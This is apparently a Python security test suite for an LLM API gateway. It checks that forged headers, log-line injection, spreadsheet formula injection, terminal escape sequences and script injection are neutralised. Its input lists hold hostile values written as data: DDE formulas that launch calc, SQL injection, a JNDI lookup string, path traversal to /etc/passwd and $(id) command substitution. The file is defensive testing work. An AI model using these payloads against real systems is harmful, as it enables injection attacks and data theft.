#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
# tollgate-test: timeout=120
"""
What callers say stays what they said: fields of ours in a head are not taken from outside and not sent on, no value makes a line of a
log, a cell of a spreadsheet that computes, a command of a terminal, or SQL.
"""

import csv
import io
import json
import os
import random
import re
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "lib"))
from harness import ADMIN_KEY, Gateway, Upstream, chat, check, completion, equal, request_bytes, run, wait_until

METERED = "costs.provider = 'open_ai' AND costs.ledger = 'metered'"
T, SEED = "/tollgate/v1", int(os.environ.get("TOLLGATE_SEED", "57"))
FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|'/c calc'!A0", "\t=1+1", "\r=1+1", "=HYPERLINK(\"http://evil\",\"x\")", "-2+3+cmd|' /C calc'!A0", "\"=1+1\"", "x,=1+1", "x\n=1+1"]
NASTY = ["x\n2026-01-01T00:00:00.000000Z info forged event=yes", "x\r\n2026-01-01T00:00:00.000000Z error forged", "x\" forged=yes y=\"", "x\u2028info forged", "x\x1b[2J\x1b]0;owned\x07",
         "x\x9b2J", "<script>alert(1)</script>", "'; DROP TABLE attempt; --", "' OR 1=1 --", "\" OR \"\"=\"", "x\\", "%s%n%x", "{{7*7}}", "${jndi:ldap://x}", "\u202egnp.exe",
         "a" * 600, "\u0000x", "x\u0000y", "\ud800".encode("utf-8", "surrogatepass").decode("latin-1"), "../../etc/passwd", "`id`", "$(id)", "x'--", "{\"a\":1}", "NULL", "\\u000a"]


def fields_of_ours_are_ours():
    def serve(request):
        request.answer(completion(), fields="x-tollgate-request-id: forged\r\nx-tollgate-cost-usd: 0.000001\r\nx-portkey-cache-status: HIT\r\nx-tollgate-overhead-us: 0\r\n"
                       "x-portkey-trace-id: forged\r\nSet-Cookie: a=b\r\nAlt-Svc: h3=\":443\"\r\nStrict-Transport-Security: max-age=9\r\nx-fine: yes\r\n")
    up = Upstream(serve)
    gw = Gateway(up.url)
    forged = ["x-tollgate-request-id: tgr_0000000000000", "x-tollgate-role: owner", "x-tollgate-workspace: other", "X-Tollgate-Cost-Usd: 0", "x-tollgate-anything: 1",
              "X-Forwarded-For: 1.2.3.4", "X-Forwarded-Proto: https", "X-Forwarded-Host: evil", "Forwarded: for=1.2.3.4", "X-Real-IP: 1.2.3.4", "Via: 1.1 evil", "CF-Connecting-IP: 1.2.3.4",
              "Connection: keep-alive, x-hop", "x-hop: secret", "Keep-Alive: timeout=9", "TE: trailers", "Proxy-Authorization: Basic eDp5", "Proxy-Connection: close"]
    s = gw.socket()
    s.sendall(request_bytes(chat(), fields="".join(f + "\r\n" for f in forged)))
    answer = s.recv(65536).decode("latin-1")
    check(" 200 " in answer.split("\r\n")[0], answer[:200])
    names = {name.lower() for name, _ in up.requests[-1].fields}
    for bad in [f.split(":")[0].lower() for f in forged]:
        check(bad not in names or bad == "connection", f"upstream was told {bad}")
    head = answer.split("\r\n\r\n")[0].lower()
    check("forged" not in head and "0.000001" not in head and "hit" not in head and "set-cookie" not in head, head)
    check("x-fine: yes" in head and head.count("x-tollgate-request-id") == 1, head)
    rows = wait_until("a row", 10, lambda: gw.rows())
    check(rows[0]["request_id"] != "tgr_0000000000000", rows[0])
    # Values that would end a line are no values; nothing of them goes on.
    for value in ("a\r\nx-tollgate-role: owner", "a\nx: y", "a\rx: y", "a\0b", "a\x0bb"):
        s = gw.socket(5)
        before = len(up.requests)
        s.sendall(b"GET /v1/models HTTP/1.1\r\nHost: g\r\nAuthorization: Bearer " + ADMIN_KEY.encode() + b"\r\nx-a: " + value.encode() + b"\r\n\r\n")
        answer = s.recv(65536)
        fine = value.startswith("a\r\n")
        check((b" 200 " in answer[:20]) == fine, f"{value!r}: {answer[:60]}")
        if fine:
            check(all("x-tollgate" not in k.lower() for k, _ in up.requests[-1].fields), "it went upstream")
        else:
            equal(len(up.requests), before, "nothing went upstream")
    for config in ({"forward_headers": ["x-tollgate-a", "x-hop", "host", "content-length", "connection", "authorization"]},):
        gw.request("POST", "/v1/chat/completions", chat(), {"x-portkey-config": json.dumps({"provider": "@openai", **config}), "x-tollgate-a": "b", "x-hop": "c", "Connection": "x-hop"})
        got = {k.lower(): v for k, v in up.requests[-1].fields}
        check("x-tollgate-a" not in got and ADMIN_KEY not in str(got), f"forwarded: {got}")
    gw.stop()


def log_lines(gw):
    return [line for line in gw.log_text().split("\n") if line]


def say_everything(gw, values):
    """Each value in each place that is shown somewhere. Returns how many answers were 5xx."""
    bad = []
    for v in values:
        text = v.replace("\x00", "")
        head = {"x-portkey-metadata": json.dumps({"team": v, v[:60]: "x"}), "x-portkey-trace-id": re.sub(r"[^\x20-\x7e]", "", v)[:60] or "t", "User-Agent": re.sub(r"[^\x20-\x7e]", "", v) or "u"}
        for method, path, body, headers in [
                ("POST", "/v1/chat/completions", chat(v), head), ("POST", "/v1/chat/completions", {**chat(), "user": v}, head), ("POST", "/v1/embeddings", {"model": v, "input": v}, head),
                ("POST", T + "/keys", {"name": v}, {}), ("POST", "/v2/cost_reports", {"title": v}, {}), ("POST", "/v2/folders", {"title": v}, {}),
                ("POST", "/v2/business_metrics", {"title": v}, {}), ("POST", T + "/members", {"email": f"{random.Random(v).randrange(10 ** 9)}@example.com", "name": v}, {}),
                ("POST", "/v1/configs", {"name": v, "config": {"retry": {"attempts": 1}}}, {}), ("POST", "/v0/workspaces", {"name": v, "displayName": v}, {}),
                ("PATCH", T + "/workspaces/default", {"display_name": v}, {}), ("POST", T + "/integrations", {"slug": v, "kind": v, "base_url": v, "api_key": "sk-0123456789"}, {}),
                ("POST", "/v1/policies/usage-limits", {"name": v, "type": "cost", "credit_limit": 5, "conditions": [{"key": "metadata.x", "value": v}]}, {}),
                ("GET", T + "/logs?user=" + "".join("%%%02x" % c for c in text.encode()), None, {}), ("GET", T + "/cost?group_by=" + "".join("%%%02x" % c for c in text.encode()), None, {}),
                ("GET", T + "/report?filter=" + "".join("%%%02x" % c for c in f"costs.provider = '{text}'".encode()), None, {}),
                ("GET", "/v2/cost_reports?q=" + "".join("%%%02x" % c for c in text.encode()), None, {}), ("GET", "/" + "".join("%%%02x" % c for c in text[:50].encode()), None, {}),
                ("POST", T + "/session", {"email": v, "password": v}, {})]:
            try:
                status, _, answer = gw.request(method, path, body, headers)
            except ValueError:
                continue  # http.client itself refuses to write it
            if status >= 500 and not (status in (502, 503) and path.startswith("/v1/")):
                bad.append(f"{method} {path[:80]} {v[:40]!r}: {status} {answer[:160]}")
    return bad


def no_value_makes_a_line():
    up = Upstream(lambda request: request.answer(completion()))
    gw = Gateway(up.url, env={"TOLLGATE_LOG_LEVEL": "debug"})
    r = random.Random(SEED)
    fuzzed = ["".join(r.choice(["\n", "\r", "\"", "'", "\\", "\x1b", "=", " ", "%", "<", "\u2028", "\u0085", "é", "a", "info", "\t", ";", "--"]) for _ in range(r.randrange(1, 40))) for _ in range(120)]
    bad = say_everything(gw, NASTY + FORMULAS + fuzzed)
    check(not bad, "\n".join(bad[:10]))
    gw.post(T + "/prices/reload", {})
    gw.stop()
    for line in log_lines(gw):
        plain = re.match(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z (debug|info|warn|error) \S", line) or re.match(r"^(tollgate \d|gateway |console |data |next |  )", line)
        check(plain and "Z info forged" not in line.split('"')[0] and not line.startswith("2026-01-01"), f"a line of its own: {line!r}")
        check(not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", line), f"control characters: {line!r}")
        check("forged=yes" not in re.sub(r'"(?:[^"\\]|\\.)*"', "", line), f"a field of its own: {line!r}")


def no_cell_computes():
    up = Upstream(lambda request: request.answer(completion(model=request.json()["model"])))
    gw = Gateway(up.url)
    for v in FORMULAS:
        for headers in ({"x-portkey-metadata": json.dumps({"team": v})},):
            status, _, text = gw.request("POST", "/v1/chat/completions", {**chat(v), "user": v}, headers)
            check(status == 200, text)
    gw.request("PATCH", T + "/workspaces/default", {"display_name": "=1+1"})
    gw.post(T + "/keys", {"name": "=1+1"})
    wait_until("rows", 20, lambda: len(gw.rows()) >= len(FORMULAS))
    time.sleep(0.5)
    month = time.strftime("%Y-%m")
    texts = {"report": gw.cli("report", "--filter", METERED, "--group-by", "model,tag:team,api_key", "--csv", check=False).stdout,
             "focus": gw.get(f"{T}/focus?ledger=metered&month={month}")[2].decode(), "reconciliation": gw.get(f"{T}/reconciliation?format=csv&month={month}")[2].decode(),
             "costs": gw.request("GET", f"/v2/costs?filter={METERED.replace(' ', '%20')}&groupings=model", None, {"Accept": "text/csv"})[2].decode()}
    status, head, text = gw.post("/v2/costs/data_exports", {"filter": METERED, "groupings": "model"})
    if status == 202:
        token = json.loads(text or b"{}").get("token") or head["location"].rsplit("/", 1)[-1]
        export = wait_until("the export", 20, lambda: (lambda d: d if d.get("status") in ("completed", "complete") or d.get("manifest") else None)(json.loads(gw.get("/v2/data_exports/" + token)[2])))
        for address in re.findall(r"https?://[^\"]+", json.dumps(export)):
            path = address.split("/", 3)[-1].rstrip("\\")
            if "data_exports" in path:
                texts["export " + path[-8:]] = gw.get("/" + path)[2].decode(errors="replace")
    seen = 0
    for name, text in texts.items():
        if text.startswith("{"):
            continue
        for row in csv.reader(io.StringIO(text, newline="")):
            for cell in row:
                seen += any(f.strip()[1:] in cell for f in FORMULAS[:5])
                check(not re.match(r"[=+\-@\t\r\n]", cell) or re.fullmatch(r"-?[0-9.]+", cell), f"{name}: {cell!r} in {row}")
    gw.stop()
    print(f"  {seen} cells in {len(texts)} files")
    check(seen > 10, f"the values are in no file: { {k: v[:300] for k, v in texts.items()} }")


def terminals_are_not_told_what_to_do():
    up = Upstream(lambda request: request.answer(completion(model="of\x1b[2Jupstream\x07\x9b1mx")))
    gw = Gateway(up.url)
    say_everything(gw, [v for v in NASTY if any(ord(c) < 32 or 0x7f <= ord(c) < 0xa0 or c in "\u2028\u202e" for c in v)])
    wait_until("rows", 20, lambda: len(gw.rows()) >= 5)
    time.sleep(0.3)
    check("upstream" in gw.cli("logs", "--limit", "5").stdout, "the model is shown")
    for args in (["logs", "--limit", "200"], ["cost", "--group-by", "model"], ["cost", "--group-by", "user,key"], ["key", "list"], ["config", "list"], ["model", "list"],
                 ["report", "--filter", METERED, "--group-by", "model,user_id"], ["audit", "list"], ["audit"]):
        done = gw.cli(*args, check=False)
        for text in (done.stdout, done.stderr):
            found = re.search(r"[\x00-\x08\x0b-\x1f\x7f\x80-\x9f]", text)
            check(not found, f"tollgate {' '.join(args)}: {text[max(0, (found or re.search('', text)).start() - 60):][:120]!r}")
    gw.stop()


def pages_trust_nobody():
    gw = Gateway()
    for path in ("/console/", "/console/console.js", "/openapi.json", T + "/keys", "/nowhere<script>"):
        _, head, body = gw.get(path)
        check(head.get("x-content-type-options") == "nosniff" or head["content-type"].startswith("application/json"), f"{path}: {head}")
        check(b"<script>alert" not in body and b"nowhere<script>" not in body, body[:200])
    policy = gw.get("/console/")[1]["content-security-policy"]
    check("default-src 'none'" in policy and "unsafe" not in policy and "frame-ancestors 'none'" in policy, policy)
    gw.stop()


if __name__ == "__main__":
    run(fields_of_ours_are_ours, no_value_makes_a_line, no_cell_computes, terminals_are_not_told_what_to_do, pages_trust_nobody)
